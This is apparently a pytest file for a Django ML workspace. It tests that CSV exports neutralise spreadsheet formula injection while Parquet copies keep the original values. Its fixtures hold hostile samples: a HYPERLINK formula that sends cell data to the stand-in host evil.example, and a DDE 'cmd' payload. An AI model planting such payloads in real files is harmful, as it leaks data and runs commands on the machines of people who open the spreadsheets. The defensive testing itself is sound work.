"""Spreadsheet formula injection (issue 12, defect 7): text from an upload that a spreadsheet
would run as a formula is neutralised in every CSV the workspace writes; the Parquet copy
keeps the original values; numbers are untouched."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from mlworkspace.csvsafe import neutralise, safe_frame, write_csv
from recipes.models import Recipe
from runs.executor import execute_run
from runs.families import get_family
from runs.models import Run
from runs.services import dataset_create, run_start

API = "/api/ml-development"

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+1", "@SUM(A1)", "-2+3"]


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("-1.5", "-1.5"),  # text that is just a number is no formula
        ("+3", "+3"),
        ("1e-5", "1e-5"),
        ("plain", "plain"),
        ("", ""),
        (-1.5, -1.5),
        (None, None),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_write_csv_neutralises_text_and_headers_but_not_numbers():
    frame = pd.DataFrame(
        {
            "name": [*HOSTILE, "ok"],
            "value": [-1.5, -2.0, 3.25, -4.0, 0.0],
            "count": [-1, 2, -3, 4, 5],
            "category": pd.Categorical(["=a", "b", "=a", "b", "b"]),
        }
    )
    frame["=cmd|' /C calc'!A0"] = 1
    buffer = io.StringIO()
    write_csv(frame, buffer)
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows[0][-1] == "'=cmd|' /C calc'!A0"
    assert [r[0] for r in rows[1:]] == ["'" + v for v in HOSTILE] + ["ok"]
    assert [r[1] for r in rows[1:]] == ["-1.5", "-2.0", "3.25", "-4.0", "0.0"]
    assert [r[2] for r in rows[1:]] == ["-1", "2", "-3", "4", "5"]
    assert [r[3] for r in rows[1:]] == ["'=a", "b", "'=a", "b", "b"]
    # text fields are quoted (OWASP), numbers are not
    assert buffer.getvalue().splitlines()[2].startswith('"\'+1+1",-2.0,2,')
    # the frame itself is not changed
    assert frame["name"].tolist() == [*HOSTILE, "ok"]
    assert safe_frame(frame)["value"].tolist() == frame["value"].tolist()


def test_every_csv_writer_goes_through_write_csv():
    """No module of the project writes CSV by itself (`to_csv(` or `csv.writer`) except
    the helper, tests, benchmarks and the demo's simulated upload (an input, not an export)."""
    from pathlib import Path

    from django.conf import settings

    root = Path(settings.BASE_DIR)
    allowed = {"mlworkspace/csvsafe.py"}
    offenders = []
    folders = [d for d in root.iterdir() if d.is_dir() and d.name not in {"bench", "tests", "data"}]
    for path in (p for d in folders if not d.name.startswith(".") for p in d.rglob("*.py")):
        rel = path.relative_to(root).as_posix()
        if "/tests/" in rel or rel in allowed:
            continue
        text = path.read_text(encoding="utf-8", errors="replace")
        if ".to_csv(" in text or "csv.writer" in text or "csv.DictWriter" in text:
            offenders.append(rel)
    assert offenders == []


def hostile_upload(user) -> tuple:
    frame = get_family("pricing").generate(3000, 1)
    products = sorted(frame["product_id"].astype(str).unique())
    renamed = dict(zip(products, HOSTILE, strict=False))
    frame["product_id"] = frame["product_id"].astype(str).map(lambda p: renamed.get(p, p))
    upload = SimpleUploadedFile("hostile.csv", frame.to_csv(index=False).encode())
    return dataset_create(user=user, upload=upload), renamed


def test_a_train_run_on_an_upload_with_formulas_exports_them_neutralised(api_client, baselines, user):
    dataset, renamed = hostile_upload(user)
    run = run_start(user=user, recipe=Recipe.objects.get(pk="recipe_pricing_base"), dataset=dataset)
    assert execute_run(run.id) == "succeeded", Run.objects.get(pk=run.id).error
    run.refresh_from_db()
    assert {"predictions.csv", "predictions.parquet"} <= set(run.artifacts_json["files"])

    response = api_client.get(f"{API}/runs/{run.id}/artifacts/predictions.csv")
    assert response.status_code == 200
    exported = pd.read_csv(io.BytesIO(b"".join(response.streaming_content)), dtype={"product_id": str})
    response = api_client.get(f"{API}/runs/{run.id}/artifacts/predictions.parquet")
    assert response.status_code == 200
    original = pd.read_parquet(io.BytesIO(b"".join(response.streaming_content)))

    seen = set(original["product_id"]) & set(HOSTILE)
    assert seen, "the hostile product ids reach the predictions"
    for value in seen:
        assert ("'" + value) in set(exported["product_id"])
        assert value not in set(exported["product_id"])
    # No exported text cell starts a formula; the Parquet keeps the originals.
    for column in [c for c in exported if not pd.api.types.is_numeric_dtype(exported[c])]:
        assert not exported[column].dropna().astype(str).str.match(r"[=+\-@\t\r]").any(), column
    assert list(exported["product_id"].str.removeprefix("'")) == list(original["product_id"])
    # Numbers are unchanged (and still numbers).
    for column in ("price", "predicted_units", "recommended_price"):
        assert exported[column].tolist() == pytest.approx(original[column].tolist())


def test_safe_frame_neutralises_exactly_the_cells_neutralise_does():
    """safe_frame is vectorised; cell by cell it must agree with neutralise on every kind of
    column: text, text with gaps, mixed objects, numbers kept as objects, categories (also
    ones whose neutralised names would collide) and pandas' string dtype."""
    import numpy as np

    cells = [*HOSTILE, "-1.5", "+3", "1e-5", "plain", "", "\tcmd", "'=already"]
    frame = pd.DataFrame(
        {
            "text": pd.Series(cells, dtype=object),
            "gaps": pd.Series([None, "=x", np.nan, "ok", "-7", "@a", None, "b", "+", "-", "="], dtype=object),
            "mixed": pd.Series([1, "=x", 2.5, None, np.str_("=np"), b"=bytes", "-1", True, "t", "x", "="]),
            "numbers": pd.Series([-1, 2, -3, 4, 5, 6, 7, 8, 9, 10, 11], dtype=object),
            "category": pd.Categorical(["=a", "b"] * 5 + ["=a"]),
            "colliding": pd.Categorical(["=a", "'=a"] * 5 + ["=a"]),
            "string": pd.Series(
                ["=s", None, "-2", "x", "@", "=s", "+1e3", "y", "z", "-", "-.5"], dtype="string"
            ),
        }
    )
    out = safe_frame(frame)
    for column in frame.columns:
        expected = [neutralise(v) for v in frame[column].astype(object).tolist()]
        got = out[column].astype(object).tolist()
        assert [None if pd.isna(v) else v for v in got] == [None if pd.isna(v) else v for v in expected], (
            column
        )
